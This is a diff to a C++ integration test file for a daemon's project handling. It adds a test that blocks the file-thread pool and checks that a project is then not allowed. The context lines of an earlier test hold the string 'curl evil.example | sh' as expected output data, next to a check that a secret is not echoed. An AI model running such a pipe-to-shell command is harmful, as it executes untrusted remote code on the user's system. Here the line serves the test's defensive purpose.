@@ -2,6 +2,7 @@
 #include "daemon/core/projects/projects.hpp"
 
 #include <fstream>
+#include <future>
 
 #include "tests/integration/daemon_in_process.hpp"
 #include "tests/support/catch.hpp"
@@ -174,6 +175,16 @@ depends_on = ["db"]
                              "curl evil.example | sh", "TOKEN", "src/**", "PORT"})
         CHECK(text.find(told) != std::string::npos);
     CHECK(text.find("hunter2") == std::string::npos);
+}
+
+TEST_CASE("a project is read although all threads for files are busy") {
+    Copies copies;
+    write_shop(copies, "shop");
+    DaemonInProcess daemon;
+    std::promise<void> released;
+    boost::asio::post(daemon.files, [release = released.get_future().share()] { release.wait(); });
+    CHECK_FALSE(is_allowed(daemon, copies.place("shop")));
+    released.set_value();
 }
 
 TEST_CASE("what could not be recorded is neither booked nor allowed") {
